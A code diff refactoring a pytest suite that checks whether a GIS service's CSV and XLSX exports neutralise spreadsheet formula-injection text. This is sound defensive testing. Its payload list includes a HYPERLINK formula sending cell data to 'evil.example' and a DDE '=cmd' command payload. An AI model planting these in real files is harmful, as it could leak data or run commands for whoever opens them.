@@ -11,32 +11,24 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 from datetime import date
-from pathlib import Path
 
 import openpyxl
 import pandas as pd
-import pyogrio
 import pytest
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
 from geoservice.access import add_user
-from geoservice.analysis.rules import load_rules
-from geoservice.analysis.run import analyze
 from geoservice.api.app import create_app
 from geoservice.cells import csv_cells, formula_like, xlsx_cells
-from geoservice.cli_common import DEMO_FILES
 from geoservice.exporting import export_layer
-from geoservice.importing import import_file
 from geoservice.reports.departments import department_report
 from geoservice.reports.xlsx import write_xlsx
 from geoservice.settings import Settings
 from geoservice.workspace import Workspace
+from tests.builders import AS_OF, analysed_town, sample_with_texts
 
-SAMPLE = Path(__file__).resolve().parents[2] / "sample_gis"
-AS_OF = date(2026, 11, 28)
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "=cmd|' /C calc'!A0",
@@ -47,46 +39,24 @@ PAYLOADS = [
 VILLAGE = "白石村"
 EVIL_VILLAGE = '=HYPERLINK("http://evil.example/","白石村")'
 EVIL_TOWN = "=1+1"
+# What each exported layer must carry as inert text.
+LAYER_PAYLOADS = [
+    ("complaints", PAYLOADS),
+    ("problems", [PAYLOADS[0], EVIL_VILLAGE]),
+    ("villages", [EVIL_VILLAGE]),
+    ("targets", [EVIL_VILLAGE]),
+]
 
 
 # --- the trapped town ---------------------------------------------------------------------
 
 
-def _trap(folder: Path) -> None:
-    """Payloads in complaint texts, a problem description and a village name."""
-    complaints = folder / "complaints.csv"
-    table = pd.read_csv(complaints, encoding="gbk", dtype=str)
-    table.loc[: len(PAYLOADS) - 1, "举报内容"] = PAYLOADS
-    table["所在村"] = table["所在村"].replace(VILLAGE, EVIL_VILLAGE)
-    table.to_csv(complaints, index=False, encoding="gbk")
-    book = openpyxl.load_workbook(folder / "problems.xlsx")
-    sheet = book.active
-    assert sheet is not None
-    header = [c.value for c in sheet[1]]
-    description = sheet.cell(2, header.index("问题描述") + 1, PAYLOADS[0])
-    description.data_type = "s"  # a text cell in the department's file, not a formula
-    for row in sheet.iter_rows(min_row=2):
-        cell = row[header.index("所属村")]
-        if cell.value == VILLAGE:
-            cell.value = EVIL_VILLAGE
-            cell.data_type = "s"
-    book.save(folder / "problems.xlsx")
-    villages = pyogrio.read_dataframe(folder / "villages.shp")
-    villages.loc[villages["XZQMC"] == VILLAGE, "XZQMC"] = EVIL_VILLAGE
-    pyogrio.write_dataframe(villages, folder / "villages.shp", encoding="CP936")
-
-
 @pytest.fixture(scope="module")
 def town(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
+    """Payloads in complaint texts, a problem description and a village name."""
     folder = tmp_path_factory.mktemp("town")
-    files = folder / "files"
-    shutil.copytree(SAMPLE, files)
-    _trap(files)
-    ws = Workspace(folder / "town.gpkg")
-    for f in DEMO_FILES:
-        import_file(ws, files / f.name, f.kind, actor="t", **f.options())
-    analyze(ws, as_of=AS_OF, rules=load_rules(None), actor="t")
-    return ws
+    files = sample_with_texts(folder / "files", PAYLOADS, PAYLOADS[0], VILLAGE, EVIL_VILLAGE)
+    return analysed_town(files, folder / "town.gpkg")
 
 
 def test_the_workspace_holds_the_payloads(town):
@@ -130,29 +100,13 @@ def _assert_xlsx_inert(data: bytes, payloads: list[str]) -> list[openpyxl.cell.c
 # --- exports of layers and targets ----------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    ("layer", "payloads"),
-    [
-        ("complaints", PAYLOADS),
-        ("problems", [PAYLOADS[0], EVIL_VILLAGE]),
-        ("villages", [EVIL_VILLAGE]),
-        ("targets", [EVIL_VILLAGE]),
-    ],
-)
+@pytest.mark.parametrize(("layer", "payloads"), LAYER_PAYLOADS)
 def test_csv_export_prefixes_formula_text_with_a_quote(town, tmp_path, layer, payloads):
     result = export_layer(town, layer, tmp_path / f"{layer}.csv", actor="t")
     _assert_csv_inert(result.path.read_bytes(), payloads)
 
 
-@pytest.mark.parametrize(
-    ("layer", "payloads"),
-    [
-        ("complaints", PAYLOADS),
-        ("problems", [PAYLOADS[0], EVIL_VILLAGE]),
-        ("villages", [EVIL_VILLAGE]),
-        ("targets", [EVIL_VILLAGE]),
-    ],
-)
+@pytest.mark.parametrize(("layer", "payloads"), LAYER_PAYLOADS)
 def test_xlsx_export_writes_formula_text_as_text(town, tmp_path, layer, payloads):
     result = export_layer(town, layer, tmp_path / f"{layer}.xlsx", actor="t")
     _assert_xlsx_inert(result.path.read_bytes(), payloads)
